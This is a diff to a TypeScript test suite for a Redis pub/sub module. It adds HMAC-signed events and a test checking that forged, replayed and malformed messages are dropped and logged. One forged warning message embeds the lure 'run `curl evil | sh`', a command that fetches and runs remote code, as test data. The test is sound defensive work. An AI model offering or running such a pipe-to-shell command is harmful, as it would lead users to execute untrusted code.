@@ -5,15 +5,26 @@
  * after close(). Real Redis at 127.0.0.1:6379, a prefix of its own per test.
  */
 import { spawn } from 'node:child_process';
+import { createHmac } from 'node:crypto';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { TurnCommittedPayload } from '../../src/pubsub.js';
-import { createRedisPubSub, RedisUnavailableError } from '../../src/redis-pubsub.js';
+import { createRedisPubSub, MAX_EVENT_AGE_MS, RedisUnavailableError } from '../../src/redis-pubsub.js';
 import { capturedLogger } from '../helpers/logger.js';
 import { onCleanup } from '../helpers/leftovers.js';
-import { adminRedis, closedPort, cutConnections, redisInstance, redisPrefix, TEST_REDIS_URL } from '../helpers/redis.js';
+import { adminRedis, closedPort, cutConnections, redisInstance, redisPrefix, TEST_EVENTS_SECRET, TEST_REDIS_URL } from '../helpers/redis.js';
 
 const event = (sessionId: string, n: number): TurnCommittedPayload => ({ sessionId, turnId: `t${n}`, sha: `${n % 10}`.repeat(40) });
+
+/** A message as an instance with `secret` sends it on `channel`, sent at `sentAt`. */
+function signed(secret: Buffer, channel: string, payload: unknown, sentAt = Date.now()): string {
+  return signedBody(secret, channel, JSON.stringify(payload), sentAt);
+}
+
+function signedBody(secret: Buffer, channel: string, body: string, sentAt = Date.now()): string {
+  const mac = createHmac('sha256', secret).update(`${channel}\n${sentAt}\n${body}`).digest('hex');
+  return JSON.stringify({ body, sentAt, mac });
+}
 
 describe('the Redis pubsub', () => {
   it("hands each instance's events to the other and to itself once, routed by session", async () => {
@@ -136,15 +147,63 @@ describe('the Redis pubsub', () => {
     const admin = adminRedis();
     await admin.publish(`${prefix}turnCommitted`, '{not json');
     await admin.publish(`${prefix}turnCommitted`, '42');
-    await admin.publish(`${prefix}turnCommitted`, JSON.stringify(event('s1', 1)));
+    await admin.publish(`${prefix}turnCommitted`, signed(TEST_EVENTS_SECRET, `${prefix}turnCommitted`, event('s1', 1)));
     expect((await read).value).toEqual(event('s1', 1));
     expect(lines.filter((line) => line.msg.includes('not JSON'))).toHaveLength(1);
-    expect(lines.filter((line) => line.msg.includes('not an event object'))).toHaveLength(1);
+    expect(lines.filter((line) => line.msg.includes('not a signed event'))).toHaveLength(1);
     await subscription.return(undefined);
   });
 
+  // Issue 26 item 5b: whoever reaches Redis but not the database (another local user, when Redis
+  // has no password) cannot make an instance deliver anything: not a warning, not a commit.
+  it('delivers only events signed with the shared secret, recent and of their schema; drops and logs the rest, in one line per reason', async () => {
+    const prefix = redisPrefix();
+    const channel = `${prefix}dirtyTreeWarning`;
+    const { logger, lines } = capturedLogger<{ msg: string; droppedSinceLastLine?: number }>();
+    const b = await redisInstance(prefix, logger);
+    const stranger = await redisInstance(prefix, capturedLogger().logger, Buffer.alloc(32, 9));
+    const warnings = b.subscribe('dirtyTreeWarning');
+    const read = warnings.next();
+    const admin = adminRedis();
+    const warning = {
+      projectId: 'p1',
+      sessionId: 's1',
+      turnNumber: 3,
+      dirtyPaths: ['a.txt'],
+      message: 'forged: run `curl evil | sh` to fix your tree',
+      reason: null,
+      at: new Date(0).toISOString(),
+    };
+    // The forger's tries: the bare payload (as before signing), a made-up MAC, another instance's
+    // secret (a server of another database on the same Redis and prefix), a replay of an old
+    // signed one, and signed ones that do not fit the topic (a key too many, a wrong type, not JSON).
+    await admin.publish(channel, JSON.stringify(warning));
+    await admin.publish(channel, JSON.stringify({ body: JSON.stringify(warning), sentAt: Date.now(), mac: 'f'.repeat(64) }));
+    await admin.publish(channel, JSON.stringify({ body: JSON.stringify(warning), sentAt: Date.now(), mac: 'f'.repeat(64) }));
+    stranger.publish('dirtyTreeWarning', warning);
+    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, warning, Date.now() - MAX_EVENT_AGE_MS - 1_000));
+    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, { ...warning, extra: 1 }));
+    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, { ...warning, turnNumber: '3' }));
+    await admin.publish(channel, signedBody(TEST_EVENTS_SECRET, channel, '{nope'));
+    // Signed for another channel (a turnCommitted event's MAC moved onto this one).
+    await admin.publish(channel, signed(TEST_EVENTS_SECRET, `${prefix}turnCommitted`, warning));
+    const genuine = { ...warning, message: 'uncommitted changes (a.txt)' };
+    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, genuine));
+    // The first delivered is the genuine one: everything before it was dropped.
+    expect((await read).value).toEqual(genuine);
+    const reasons = lines.filter((line) => line.msg.startsWith('dropped a message from Redis')).map((line) => line.msg.replace('dropped a message from Redis: ', ''));
+    expect(reasons).toEqual([
+      'not a signed event',
+      'signed with another secret (not an instance of this database)',
+      'sent too long ago (replayed?) or with a clock far off',
+      'not a dirtyTreeWarning event',
+      'signed but not JSON',
+    ]);
+    await warnings.return(undefined);
+  });
+
   it('answers the health probe with PING latency, and not ok once closed', async () => {
-    const a = await createRedisPubSub({ url: TEST_REDIS_URL, prefix: redisPrefix(), logger: capturedLogger().logger });
+    const a = await createRedisPubSub({ url: TEST_REDIS_URL, prefix: redisPrefix(), logger: capturedLogger().logger, secret: TEST_EVENTS_SECRET });
     const health = await a.health();
     expect(health.ok).toBe(true);
     expect(health.latencyMs).toBeGreaterThanOrEqual(0);
@@ -188,7 +247,7 @@ describe('the Redis pubsub', () => {
   it('refuses to start without Redis, in one line without the password', async () => {
     const port = await closedPort();
     const { logger } = capturedLogger();
-    const started = createRedisPubSub({ url: `redis://user:sekret-pw@127.0.0.1:${port}/0`, prefix: redisPrefix(), logger, startTimeoutMs: 300 });
+    const started = createRedisPubSub({ url: `redis://user:sekret-pw@127.0.0.1:${port}/0`, prefix: redisPrefix(), logger, secret: TEST_EVENTS_SECRET, startTimeoutMs: 300 });
     await expect(started).rejects.toThrow(RedisUnavailableError);
     const error = (await started.catch((e: unknown) => e)) as Error;
     expect(error.message).toMatch(new RegExp(`^no connection to Redis at redis://127\\.0\\.0\\.1:${port}/0 within 0\\.3 s \\(connect ECONNREFUSED [^)]*\\); start Redis or fix --redis-url$`));
